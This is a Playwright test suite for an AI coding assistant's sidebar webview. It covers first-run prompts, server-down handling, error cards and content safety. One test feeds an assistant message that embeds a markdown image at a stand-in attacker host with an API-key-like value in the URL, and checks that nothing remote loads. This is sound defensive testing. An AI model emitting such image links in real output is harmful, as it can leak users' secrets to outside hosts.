// The sidebar's first run and failure paths in headless Chromium: the welcome
// state, Send with no session, Send disabled (with the reason) while the server is
// down, errors with Retry and the actions that fix them, links and images that
// never load anything remote, and code blocks with Copy / Insert.
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchBrowser, openWebview, posted, send, waitForPosted } from "./harness";

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

const SESSION = "s-1";
const update = (u: Record<string, unknown>) => ({ type: "update", sessionId: SESSION, update: u });

async function emptySidebar(): Promise<Page> {
  const page = await openWebview(browser, "sidebar");
  await waitForPosted(page, "ready");
  await send(page, { type: "server", status: "running" });
  await send(page, { type: "setup", setup: { hasKey: false } });
  await send(page, { type: "sessions", activeSessionId: null, sessions: [] });
  return page;
}

async function withSession(page: Page): Promise<void> {
  await send(page, { type: "sessions", activeSessionId: SESSION, sessions: [{ sessionId: SESSION, title: "t", mode: "build", createdAt: "t", updatedAt: "t" }] });
  await send(page, { type: "history", sessionId: SESSION, title: "t", mode: "build", running: false, messages: [] });
  await page.waitForFunction(() => document.getElementById("app")?.dataset.sessionId === "s-1");
}

describe("sidebar first run", () => {
  it("welcomes with the three ways to start, and Send with no session asks the host to start one", async () => {
    const page = await emptySidebar();
    const welcome = page.locator("#welcome");
    await welcome.waitFor({ state: "visible" });
    expect(await welcome.locator(".choice strong").allInnerTexts()).toEqual([
      "Use a local model",
      "Use an OpenAI API key",
      "Use an OpenAI-compatible server",
    ]);
    expect(await page.locator("#welcome-model").innerText()).toContain("No model is set up yet");
    for (const [index, action] of ["useLocalModel", "setKey", "useCompatibleServer"].entries()) {
      await welcome.locator(".choice").nth(index).click();
      expect(await waitForPosted(page, "action")).toEqual({ type: "action", action });
    }
    // The mode picked before the first prompt is the new session's.
    await page.click("#mode-plan");
    expect(await page.locator("#mode-plan").getAttribute("aria-checked")).toBe("true");
    expect((await posted(page)).filter((m) => m.type === "setMode")).toEqual([]);
    await page.locator("#prompt").click();
    await page.keyboard.type("Plan a cache");
    expect(await page.locator("#send").getAttribute("disabled")).toBeNull();
    await page.keyboard.press("Enter");
    expect(await waitForPosted(page, "prompt")).toEqual({ type: "prompt", sessionId: null, text: "Plan a cache", mode: "plan" });
    // The host starts the session, shows the prompt as the person's, and the answer streams.
    await withSession(page);
    await send(page, { type: "userMessage", sessionId: SESSION, text: "Plan a cache" });
    await page.waitForSelector(".msg.user >> text=Plan a cache");
    expect(await welcome.isHidden()).toBe(true);
    await page.close();
  });

  it("with a key stored, the welcome says OpenAI will be used", async () => {
    const page = await emptySidebar();
    await send(page, { type: "setup", setup: { hasKey: true } });
    await page.waitForFunction(() => (document.getElementById("welcome-model")?.textContent ?? "").includes("OpenAI with your key"));
    await page.close();
  });

  it("while the server is down Send is disabled with the reason, the prompt is kept, and the banner restarts it", async () => {
    const page = await emptySidebar();
    await withSession(page);
    await page.locator("#prompt").click();
    await page.keyboard.type("Keep me");
    await send(page, { type: "server", status: "failed" });
    await page.waitForSelector("#server-banner:not([hidden])");
    expect(await page.locator("#send").getAttribute("disabled")).not.toBeNull();
    expect(await page.locator("#send-reason").innerText()).toBe("The Baton server is not running: restart it above. Your prompt is kept.");
    await page.locator("#prompt").click();
    await page.keyboard.press("Enter");
    await page.waitForTimeout(100);
    expect((await posted(page)).filter((m) => m.type === "prompt")).toEqual([]);
    expect(await page.locator("#prompt").evaluate((n) => (n as HTMLElement & { value: string }).value)).toBe("Keep me");
    await page.click("#banner-restart");
    expect(await waitForPosted(page, "action")).toEqual({ type: "action", action: "restartServer" });
    await page.click("#banner-python");
    expect((await posted(page)).filter((m) => m.type === "action").at(-1)).toEqual({ type: "action", action: "setPythonPath" });
    await send(page, { type: "server", status: "running" });
    await page.waitForSelector("#server-banner", { state: "hidden" });
    expect(await page.locator("#send").getAttribute("disabled")).toBeNull();
    expect(await page.locator("#send-reason").isHidden()).toBe(true);
    await page.close();
  });

  it("a failed turn shows the error in words with Retry and Set key; the raw text is folded and wrapped", async () => {
    const page = await emptySidebar();
    await withSession(page);
    await page.locator("#prompt").click();
    await page.keyboard.type("Say hello");
    await page.keyboard.press("Enter");
    await waitForPosted(page, "prompt");
    const raw = "provider error: 401 Unauthorized from https://api.openai.com/v1/responses: Incorrect API key provided: sk-xx****. You can find your API key at https://platform.openai.com/account/api-keys.";
    await send(page, update({ kind: "turn_ended", stopReason: "error", error: raw }));
    const card = page.locator(".error-card");
    await card.waitFor();
    expect(await card.locator(".error-title").innerText()).toBe("The model server refused the API key.");
    expect(await card.locator("button").allInnerTexts()).toEqual(["Retry", "Set OpenAI key", "Use another server"]);
    expect(await card.locator(".error-details pre").isVisible()).toBe(false);
    // Nothing is clipped: the card is as wide as the transcript and its text wraps.
    const box = await card.boundingBox();
    const transcript = await page.locator("#transcript").boundingBox();
    expect(box && transcript && box.x + box.width <= transcript.x + transcript.width + 1).toBe(true);
    await card.locator("[data-error-action=setKey]").click();
    expect(await waitForPosted(page, "action")).toEqual({ type: "action", action: "setKey" });
    await card.locator("[data-error-action=retry]").click();
    expect(await waitForPosted(page, "retry")).toEqual({ type: "retry", sessionId: SESSION });
    expect(await page.locator("#app").getAttribute("data-running")).toBe("true");
    await page.close();
  });
});

describe("sidebar content safety", () => {
  it("loads nothing remote: images become links, and every link goes to the host to open", async () => {
    const page = await emptySidebar();
    await withSession(page);
    const requests: string[] = [];
    page.on("request", (r) => requests.push(r.url()));
    await send(page, update({ kind: "agent_message_chunk", text: "See ![secret](https://evil.example/p.png?k=sk-123) and [the docs](https://docs.example/x)." }));
    await page.waitForSelector("[data-kind=assistant] a.image-link");
    expect(await page.locator("[data-kind=assistant] img").count()).toBe(0);
    expect(await page.locator("a.image-link").innerText()).toBe("[image: secret]");
    await page.locator("a.image-link").click();
    expect(await waitForPosted(page, "openLink")).toEqual({ type: "openLink", url: "https://evil.example/p.png?k=sk-123" });
    await page.locator("a", { hasText: "the docs" }).click();
    await page.waitForFunction(() =>
      (window as unknown as { __posted: Array<{ type: string; url?: string }> }).__posted.some((m) => m.url === "https://docs.example/x"),
    );
    expect(requests.filter((u) => !u.startsWith("https://webview.baton.test"))).toEqual([]);
    expect(page.url()).toBe("https://webview.baton.test/index.html");
    // The CSP allows images only from the extension (and data:), never https:.
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
    expect(csp).toMatch(/img-src https:\/\/webview\.baton\.test data:;/);
    expect(csp).not.toMatch(/img-src[^;]*https:(?!\/\/webview)/);
    await page.close();
  });

  it("highlights code blocks and offers Copy and Insert", async () => {
    const page = await emptySidebar();
    await withSession(page);
    await send(page, update({ kind: "agent_message_chunk", text: "```python\ndef f():\n    return 1\n```\n" }));
    await page.waitForSelector(".code-block code.hljs");
    expect(await page.locator(".code-block .hljs-keyword").first().innerText()).toBe("def");
    await page.locator(".code-block").hover();
    await page.locator("[data-code-action=insert]").click();
    expect(await waitForPosted(page, "codeAction")).toEqual({ type: "codeAction", action: "insert", text: "def f():\n    return 1\n" });
    await page.locator("[data-code-action=copy]").click();
    expect((await posted(page)).filter((m) => m.type === "codeAction").at(-1)).toEqual({ type: "codeAction", action: "copy", text: "def f():\n    return 1\n" });
    await page.close();
  });
});
